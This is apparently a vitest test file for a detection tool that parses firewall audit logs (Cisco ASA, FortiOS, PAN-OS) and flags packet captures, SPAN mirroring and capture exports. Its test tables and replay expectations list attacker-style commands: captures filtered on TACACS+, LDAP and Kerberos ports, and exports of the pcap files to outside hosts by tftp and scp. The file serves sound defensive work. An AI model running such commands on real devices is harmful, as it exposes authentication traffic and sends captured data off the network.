// Firewalls (Cisco ASA / FTD, Fortinet FortiOS, Palo Alto PAN-OS): their log formats read into DeviceRecords, kept by
// the pre-filter, judged by the rules and followed by the capture / mirror state, and the whole way through the real
// CLI (`capwatch replay --json`) and service. Inputs: fixtures/logs/{asa-capture-audit,fortios-config-events,
// fortios-tacacs-accounting,panos-config-audit}.log (each names its sources; the lines marked SYNTHESISED follow a
// cited real line's shape), the real ASA `show capture` outputs in fixtures/show, and the vendors' documented syntax.
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { extractRecord } from '../parsers/messages/index.js';
import { csvFields, xmlToCli } from '../parsers/messages/panos.js';
import { fortiAttributes } from '../parsers/messages/fortios.js';
import { mayCarryCommand } from '../parsers/prefilter.js';
import { parseShowOutputs } from '../parsers/show/index.js';
import { parseSyslog } from '../parsers/syslog/header.js';
import { isParseFailure, type DeviceRecord, type ParseFailure } from '../parsers/types.js';
import { Detector } from '../src/detect/detector.js';
import { loadRules } from '../src/detect/sigma/load.js';
import type { CommandEvent, Detection } from '../src/types.js';
import { commandEvent as ev } from './helpers/command-event.js';
import { logLine, logLines } from './helpers/fixture-lines.js';
import { CLI, eventually, startService, type Service } from './helpers/service.js';

const ROOT = resolve(import.meta.dirname, '..');
const rules = loadRules([join(ROOT, 'rules')]);
const ASA_LOG = 'asa-capture-audit.log';
const FGT_LOG = 'fortios-config-events.log';
const PAN_LOG = 'panos-config-audit.log';
const FGT_TACACS_LOG = 'fortios-tacacs-accounting.log';

function extract(line: string): DeviceRecord | ParseFailure | null {
  const m = parseSyslog(line, new Date('2026-12-04T12:00:00Z'));
  if (isParseFailure(m)) throw new Error(m.error);
  return extractRecord(m);
}
function rec(line: string): DeviceRecord {
  const r = extract(line);
  if (r === null || isParseFailure(r)) throw new Error(`no record for ${line}: ${JSON.stringify(r)}`);
  return r;
}
function detectAll(events: CommandEvent[], d = new Detector({ rules, collectors: ['10.20.0.0/16'] })): Detection[][] {
  return events.map((e) => d.detect(e));
}
const ASA = { device: { platform: 'asa' as const, hostname: 'fw01', address: '192.0.2.1' } };
const FGT = { device: { platform: 'fortios' as const, hostname: 'FGT-EDGE', address: '192.0.2.2' } };
const PAN = { device: { platform: 'panos' as const, hostname: 'PA-VM', address: '192.0.2.3' } };
const SWITCH = (name: string) => ({ ...FGT, context: ['config system switch-interface', `edit ${name}`] });

describe('FortiOS configuration-change events', () => {
  it('0100044547 Add / Edit / Delete (Fortinet KB 387138) become the config path and the set lines of the change', () => {
    expect(rec(logLine(FGT_LOG, 'action="Edit" cfgtid=126746709'))).toEqual({
      type: 'command',
      origin: 'fortios-config',
      platform: 'fortios',
      configMode: true,
      user: 'admin',
      line: 'GUI',
      remoteAddress: '10.32.22.115',
      path: ['config firewall policy', 'edit 8'],
      command: 'set dstintf port2',
      time: new Date('2025-04-10T12:03:10.387Z'),
    });
    expect(rec(logLine(FGT_LOG, 'action="Add"')).command).toBe(
      'set name testconfig; set srcintf port5; set dstintf port1; set action accept; set srcaddr all; set dstaddr all; set schedule always; set service ALL; set nat enable',
    );
    expect(rec(logLine(FGT_LOG, 'action="Delete"'))).toMatchObject({ path: ['config firewall policy'], command: 'delete 8' });
  });

  it('the unquoted FortiOS 5 form (Wazuh decoder sample) and a device name', () => {
    expect(rec(logLine(FGT_LOG, 'log.threat-weight'))).toMatchObject({
      path: ['config log threat-weight'],
      command: 'set failed-connection medium',
      user: 'a@b.com.na',
      remoteAddress: '10.42.8.253',
      device: { hostname: 'Mobipay_Firewall' },
    });
  });

  it('logins, logouts and one-arm sniffer traffic logs carry no command', () => {
    expect(extract(logLine(FGT_LOG, 'Admin logout successful'))).toBeNull();
    expect(extract(logLine(FGT_LOG, 'subtype=sniffer'))).toBeNull();
  });

  it('attribute lists: cleared values, brackets inside a value, blanks inside a value', () => {
    expect(fortiAttributes('tcp-portrange[->10443]udp-portrange[->]')).toEqual([
      ['tcp-portrange', '10443'],
      ['udp-portrange', ''],
    ]);
    expect(fortiAttributes('filter[logid(0103020301)->]filter-type[exclude->include]')).toEqual([
      ['filter', ''],
      ['filter-type', 'include'],
    ]);
    expect(fortiAttributes('srcaddr[all->USA India]')).toEqual([['srcaddr', 'USA India']]);
  });
});

describe('PAN-OS CONFIG and audit logs', () => {
  it('CONFIG (Elastic samples): command and configuration path, admin, client, host, result', () => {
    expect(rec(logLine(PAN_LOG, 'reset-adult'))).toEqual({
      type: 'command',
      origin: 'panos-config',
      platform: 'panos',
      configMode: true,
      command: 'set vsys vsys1 rulebase security rules reset-adult',
      user: 'admin',
      line: 'Web',
      remoteAddress: '81.2.69.193',
      result: 'success',
      time: new Date('2023-10-04T08:52:10Z'),
    });
    expect(rec(logLine(PAN_LOG, 'device-telemetry'))).toMatchObject({ command: 'override deviceconfig system device-telemetry', result: 'failure' });
    // before/after details with commas inside quotes do not shift the columns read
    expect(rec(logLine(PAN_LOG, 'test123')).command).toBe('edit vsys vsys1 address test123');
  });

  it('audit (Elastic sample and the GDC page): the XML request read as the CLI words', () => {
    expect(rec(logLine(PAN_LOG, 'suser'))).toEqual({
      type: 'command',
      origin: 'panos-audit',
      platform: 'panos',
      command: 'debug dataplane packet-diag show setting',
      user: 'suser',
      line: 'gui-op',
      result: 'success',
      time: new Date('2024-04-11T20:06:15Z'),
    });
    expect(rec(logLine(PAN_LOG, 'multi-vsys')).command).toBe('show system setting multi-vsys');
  });

  it('XML to CLI: entries by name, text content, entities; CSV quotes', () => {
    expect(xmlToCli('<debug><dataplane><packet-diag><set><capture><stage><entry name="receive"><file>rx.pcap</file></entry></stage></capture></set></packet-diag></dataplane></debug>')).toBe(
      'debug dataplane packet-diag set capture stage receive file rx.pcap',
    );
    expect(xmlToCli('<show><log><traffic><query>(addr.src in 10.1.1.1) &amp; (port.dst eq 49)</query></traffic></log></show>')).toBe(
      'show log traffic query "(addr.src in 10.1.1.1) & (port.dst eq 49)"',
    );
    expect(xmlToCli('not xml')).toBeUndefined();
    expect(csvFields('a,"b, ""c""",,d')).toEqual(['a', 'b, "c"', '', 'd']);
  });

  it('a commit names no configuration path: nothing to judge', () => {
    const commit = '<190>Mar 14 14:28:52 host-name 1,2025/03/14 16:28:52,111111111111111,CONFIG,0,1111,2025/03/14 16:28:40,0.0.0.0,,commit-all,Panorama-admin,Panorama,Succeeded,,';
    expect(extract(commit)).toBeNull();
  });
});

describe('pre-filter', () => {
  it('keeps every firewall fixture line that carries a command, drops their chatter', () => {
    for (const name of [ASA_LOG, FGT_LOG, FGT_TACACS_LOG, PAN_LOG]) {
      for (const line of logLines(name)) {
        const r = extract(line);
        if (r !== null && !isParseFailure(r)) expect(mayCarryCommand(line), line).toBe(true);
      }
    }
    expect(mayCarryCommand(logLine(FGT_LOG, 'subtype=sniffer'))).toBe(false);
    expect(mayCarryCommand(logLine(FGT_LOG, 'Admin logout successful'))).toBe(false);
    // a Cisco-looking tag inside an attribute value, after the marker, hides nothing
    const span = logLine(FGT_LOG, 'span[disable->enable]');
    expect(mayCarryCommand(span.replace('span[disable->enable]', 'alias[->%LINK-3-UPDOWN: up]span[disable->enable]'))).toBe(true);
    // PAN-OS TRAFFIC, FortiGate traffic: no log-type or logid marker
    expect(mayCarryCommand('1,2023/10/04 08:52:10,007058000248010,TRAFFIC,end,2561,2023/10/04 08:52:10,10.0.0.1,8.8.8.8')).toBe(false);
    expect(mayCarryCommand('date=2019-05-10 time=11:37:47 logid="0000000013" type="traffic" subtype="forward" level="notice"')).toBe(false);
  });
});

describe('rules: what fires, what stays quiet (vendor false friends)', () => {
  const first = (c: string, o: Parameters<typeof ev>[1]) => detectAll([ev(c, o)])[0]!;
  const FIRES: [string, Parameters<typeof ev>[1], string, string][] = [
    // [command, event options, kind, severity]
    ['capture cap1 interface inside match tcp any any eq 49', ASA, 'capture', 'critical'],
    ['cap CAP1 int inside match ip host 10.1.1.10 any', ASA, 'capture', 'high'],
    ['cluster exec capture ASP type asp-drop all', ASA, 'capture', 'high'],
    ['capture RAD type raw-data access-list RADIUS-ONLY interface outside buffer 1048576 circular-buffer', ASA, 'capture', 'critical'],
    ['copy /pcap capture:cap1 tftp://203.0.113.9/cap1.pcap', ASA, 'capture-export', 'critical'],
    ['copy /noconfirm /pcap capture:ctx1/in-cap scp://admin@203.0.113.9/in.pcap', ASA, 'capture-export', 'critical'],
    ['copy /pcap capture:cap1 disk0:cap1.pcap', ASA, 'capture-export', 'high'],
    ["diagnose sniffer packet any 'port 49' 6 0 l", FGT, 'capture', 'critical'],
    ['diagnose sniffer packet port1 "host 10.1.1.1 and port 389" 3', FGT, 'capture', 'critical'],
    ['diag sniffer packet wan1 none 4 100', FGT, 'capture', 'high'],
    ['debug dataplane packet-diag set capture on', PAN, 'capture', 'high'],
    ['debug dataplane packet-diag set filter match destination-port 88', PAN, 'capture', 'high'],
    ['tcpdump filter "port 49"', PAN, 'capture', 'critical'],
    ['scp export mgmt-pcap from mgmt-pcap to admin@198.51.100.7:/tmp', PAN, 'capture-export', 'critical'],
  ];
  for (const [command, o, kind, severity] of FIRES) {
    it(`fires: ${command}`, () => {
      expect(first(command, o).map((d) => [d.kind, d.severity])).toEqual([[kind, severity]]);
    });
  }

  const QUIET: [string, Parameters<typeof ev>[1]][] = [
    ['terminal pager 0', ASA],
    ['show access-list fw211111_access_out brief', ASA],
    ['access-list CAPTURE extended permit tcp any any eq 49', ASA],
    ['capture-traffic', ASA],
    ['show running-config capture', ASA],
    ['clear configure capture', ASA],
    // `show run capture` output pasted as text
    ['description capture cap1 interface inside match tcp any any eq 49', { ...ASA, context: ['interface GigabitEthernet0/1'] }],
    ['access-list CAP-NOTES remark capture cap1 interface inside', ASA],
    ['name 10.1.1.10 cap-host description capture cap1 interface inside', ASA],
    ['copy running-config tftp://203.0.113.9/fw01.cfg', ASA],
    // a packet-flow trace of the firewall's decisions records no traffic
    ['diagnose debug flow filter addr 10.1.1.1', FGT],
    ['diagnose debug flow show iprope enable', FGT],
    ['diagnose debug enable', FGT],
    ['diagnose sys session list', FGT],
    ['set ips-sniffer-mode enable', { ...FGT, context: ['config system interface', 'edit port3'] }],
    ['set span enable', { ...FGT, context: ['config system interface', 'edit port5'] }],
    ['debug dataplane packet-diag set log feature flow basic', PAN],
    ['debug dataplane packet-diag set filter on', PAN],
    ['show counter global filter packet-filter yes delta yes', PAN],
    ['scp export configuration from running-config.xml to admin@198.51.100.7:/tmp', PAN],
  ];
  for (const [command, o] of QUIET) {
    it(`quiet: ${command}${o?.context ? ` in ${o.context.join(' / ')}` : ''}`, () => {
      expect(first(command, o).map((d) => `${d.kind}/${d.severity}`)).toEqual([]);
    });
  }

  it('FortiOS: a packet-flow trace is noted as low reconnaissance, its filter and display settings not at all', () => {
    // the command sequence of Fortinet's "Debugging the packet flow" (docs.fortinet.com … /54688)
    const out = detectAll(
      ['diag debug flow filter addr 203.160.224.97', 'diag debug flow show function-name enable', 'diag debug flow trace start 100', 'diag debug enable'].map((c) => ev(c, FGT)),
    );
    expect(out.map((ds) => ds.map((d) => `${d.kind}/${d.severity}`))).toEqual([[], [], ['recon/low'], []]);
    expect(out[2]![0]!.why).toBe("A packet-flow trace ran on FGT-EDGE: it shows how the device handles the flow it selects (route, policy, NAT), not the packets' contents.");
  });

  it('PAN-OS: an scp export says where the capture went (USER@HOST:PATH names its host; no prompt asked for it)', () => {
    const [d] = first('scp export mgmt-pcap from mgmt-pcap to admin@198.51.100.7:/tmp', PAN);
    expect(d!.why).toBe('Capture file mgmt-pcap left PA-VM for admin@198.51.100.7:/tmp.');
  });

  it('tradecraft: ASA match on TACACS+, FortiOS BPF on LDAP, PAN-OS filter on Kerberos', () => {
    expect(first('capture cap1 interface inside match tcp any any eq 49', ASA)[0]!.tradecraft).toEqual(['capture targets TACACS+ (TCP 49)']);
    expect(first('diagnose sniffer packet port1 "host 10.1.1.1 and port 389" 3', FGT)[0]!.tradecraft).toEqual(['capture targets LDAP (389/636)']);
    expect(first('debug dataplane packet-diag set filter match destination-port 88', PAN)[0]!.tradecraft).toEqual(['capture targets Kerberos (88)']);
  });
});

describe('capture and mirror state', () => {
  it('ASA: a capture runs from its definition, loses one interface, ends with no capture', () => {
    const d = new Detector({ rules });
    const out = detectAll(
      [
        ev('capture cap1 interface inside match tcp any any eq 49', ASA),
        ev('capture cap1 interface outside', ASA),
        ev('capture cap1 stop', ASA),
        ev('no capture cap1 stop', ASA),
        ev('no capture cap1 interface outside', ASA),
      ],
      d,
    );
    expect(out.map((ds) => ds.map((x) => x.rule.length > 0 && x.kind))).toEqual([['capture'], ['capture'], ['capture'], ['capture'], ['removal']]);
    expect(d.state.get('192.0.2.1')!.captures.get('cap1')).toMatchObject({ active: true, interfaces: ['inside'], filter: 'match tcp any any eq 49' });
    detectAll([ev('no capture cap1', ASA)], d);
    expect(d.state.get('192.0.2.1')!.captures.size).toBe(0);
    // `/all` names every buffer, not a capture to believe in
    expect(detectAll([ev('clear capture /all', ASA)], d)[0]!.map((x) => `${x.kind}/${x.severity}`)).toEqual(['capture/low']);
    expect([...d.state.get('192.0.2.1')!.captures.keys()]).toEqual([]);
    expect(out[0]![0]!.why).toBe('Packet capture cap1 was set up on fw01 and records at once the traffic it selects on inside (match tcp any any eq 49).');
  });

  it('ASA: what the state believes matches what `show capture` shows (real output, commands as it prints them)', () => {
    // the file: its source line, the prompt with the command, then what the ASA printed
    const output = readFileSync(join(ROOT, 'fixtures/show/asa__show_capture__1.txt'), 'utf8').split('\n').slice(2).join('\n');
    const shown = parseShowOutputs('asa', [{ command: 'show capture', output }]);
    expect(shown.captures.map((c) => c.name)).toEqual(['DUOout', 'DUOin']);
    // RECONSTRUCTION: the definitions `show capture` prints, typed back as commands
    const d = new Detector({ rules });
    detectAll(
      [
        ev('capture DUOout type raw-data interface outside circular-buffer match ip host 192.168.200.1 host 192.168.100.1', ASA),
        ev('capture DUOin type raw-data interface inside circular-buffer match ip host 192.168.200.1 host 192.168.100.1', ASA),
      ],
      d,
    );
    const believed = [...d.state.get('192.0.2.1')!.captures.values()].map((c) => ({ name: c.name, active: c.active, interfaces: c.interfaces }));
    expect(believed).toEqual(shown.captures.map((c) => ({ name: c.name, active: c.active, interfaces: c.interfaces })));
  });

  it('FortiOS: a switch SPAN is active once enabled with both ends, named by its switch interface', () => {
    const d = new Detector({ rules });
    const [built] = detectAll([ev('set span enable; set span-dest-port port6; set span-source-port port5', SWITCH('Test'))], d);
    expect(built!.map((x) => [x.kind, x.facts.session, x.severity])).toEqual([
      ['span', 'Test', 'medium'],
      ['span', 'Test', 'medium'],
      ['span', 'Test', 'high'],
    ]);
    expect(d.state.get('192.0.2.2')!.sessions.get('Test')).toMatchObject({ active: true, sources: ['port5'], destinations: ['port6'], shut: false });
    detectAll([ev('set span disable', SWITCH('Test'))], d);
    expect(d.state.get('192.0.2.2')!.sessions.get('Test')).toMatchObject({ active: false, shut: true });
  });

  it('FortiOS: ends set while span is off are not believed to copy anything', () => {
    const d = new Detector({ rules });
    detectAll([ev('set span-dest-port port6; set span-source-port port5', SWITCH('Lab'))], d);
    expect(d.state.get('192.0.2.2')!.sessions.get('Lab')).toMatchObject({ active: false, shut: true });
  });

  it('PAN-OS: the one packet-diag capture is defined, switched on and cleared', () => {
    const d = new Detector({ rules });
    detectAll([ev('debug dataplane packet-diag set capture stage receive file rx.pcap', PAN), ev('debug dataplane packet-diag set capture on', PAN)], d);
    expect(d.state.get('192.0.2.3')!.captures.get('packet-diag')).toMatchObject({ active: true, file: 'rx.pcap' });
    detectAll([ev('debug dataplane packet-diag clear all', PAN)], d);
    expect(d.state.get('192.0.2.3')!.captures.size).toBe(0);
  });
});

describe('capwatch replay --json on the firewall fixtures', () => {
  const replay = (name: string) => {
    const r = spawnSync(process.execPath, [CLI, 'replay', '--json', join(ROOT, 'fixtures/logs', name)], { encoding: 'utf8', timeout: 30_000 });
    expect(r.status, r.stderr).toBe(0);
    return r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { kind: string; severity: string; command: string; user: string; device: string; facts: Record<string, string> });
  };

  it('ASA / FTD: the capture, its export and its removal, not the everyday commands', () => {
    const out = replay(ASA_LOG).map((d) => [d.device, d.user, d.kind, d.severity, d.command]);
    expect(out).toEqual([
      ['fw01', 'mallory', 'capture', 'critical', 'capture cap1 interface inside match tcp any any eq 49'],
      ['fw01', 'mallory', 'capture', 'critical', 'capture cap1 interface outside'],
      ['fw01', 'mallory', 'recon', 'low', 'show capture cap1'],
      ['fw01', 'mallory', 'capture-export', 'critical', 'copy /pcap capture:cap1 tftp://203.0.113.9/cap1.pcap'],
      ['fw01', 'mallory', 'removal', 'low', 'no capture cap1 interface outside'],
      ['ftd01', 'enable_1', 'capture', 'high', 'capture ASP type asp-drop all'],
      ['fw01', 'mallory', 'removal', 'low', 'no capture cap1'],
    ]);
  });

  it('FortiOS: the switch SPAN, and nothing from the policy edits, logins or sniffer-mode traffic logs', () => {
    const out = replay(FGT_LOG);
    expect(out.map((d) => [d.device, d.user, d.kind, d.severity])).toEqual([
      ['FGT-EDGE', 'mallory', 'span', 'medium'],
      ['FGT-EDGE', 'mallory', 'span', 'medium'],
      ['FGT-EDGE', 'mallory', 'span', 'high'],
    ]);
    expect(out.every((d) => d.facts.session === 'Test')).toBe(true);
  });

  it('FortiOS over TACACS+ accounting: the command from reason; the sniffer on TACACS+ critical, the flow trace low', () => {
    const out = replay(FGT_TACACS_LOG).map((d) => [d.device, d.user, d.kind, d.severity, d.command]);
    expect(out).toEqual([
      ['192.0.2.2', 'mallory', 'recon', 'low', 'diagnose debug flow trace start 100'],
      ['192.0.2.2', 'mallory', 'capture', 'critical', "diagnose sniffer packet any 'port 49' 6 0 l"],
    ]);
  });

  it('PAN-OS: the web UI capture on TACACS+ traffic, critical once on', () => {
    const out = replay(PAN_LOG).map((d) => [d.user, d.kind, d.severity, d.command]);
    expect(out).toEqual([
      ['suser', 'recon', 'low', 'debug dataplane packet-diag show setting'],
      ['mallory', 'capture', 'high', 'debug dataplane packet-diag set filter match destination-port 49'],
      ['mallory', 'capture', 'high', 'debug dataplane packet-diag set capture stage receive file rx.pcap'],
      ['mallory', 'capture', 'critical', 'debug dataplane packet-diag set capture on'],
      ['mallory', 'removal', 'low', 'debug dataplane packet-diag clear all'],
    ]);
  });
});

describe('the running service', () => {
  let svc: Service;
  beforeAll(async () => {
    svc = await startService();
  });
  afterAll(async () => {
    expect(await svc.stop()).toBe(0);
  });

  it('an ASA capture on TACACS+ and its export open one critical incident, and the devices view believes it active', async () => {
    // the fw01 lines up to the export: the capture is still there
    const lines = logLines(ASA_LOG).filter((l) => l.includes('fw01') && !l.includes('no capture'));
    await svc.sendSyslog(lines, '127.0.0.21');
    const incident = await eventually(async () => {
      const list = (await svc.api<{ incidents: any[] }>('/api/incidents')).incidents;
      return list.find((i) => i.user === 'mallory' && i.detections.some((d: any) => d.kind === 'capture-export'));
    });
    expect(incident.severity).toBe('critical');
    expect(incident.detections.map((d: any) => d.kind)).toEqual(['capture', 'capture', 'recon', 'capture-export']);
    // the state is stored a moment after the detections
    const fw = await eventually(async () => {
      const devices = (await svc.api<{ devices: any[] }>('/api/devices')).devices;
      return devices.find((x) => x.address === '127.0.0.21' && x.believed.captures.length > 0);
    });
    expect(fw.hostname).toBe('fw01');
    expect(fw.believed.captures).toEqual([
      expect.objectContaining({ name: 'cap1', active: true, interfaces: ['inside', 'outside'], filter: 'match tcp any any eq 49', exportUrl: 'tftp://203.0.113.9/cap1.pcap' }),
    ]);
  });
});
